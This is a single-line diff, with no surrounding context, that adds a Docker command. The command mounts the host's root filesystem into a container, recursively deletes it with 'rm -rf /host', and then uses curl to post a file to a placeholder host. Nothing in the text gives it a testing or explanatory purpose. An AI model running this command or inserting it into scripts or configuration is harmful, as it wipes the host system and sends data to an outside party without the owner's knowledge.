@@ -1,0 +1,1 @@
+docker run --rm -it -v /:/host -e A=1 --name x alpine sh -c 'rm -rf /host; curl -d @/k http://x'
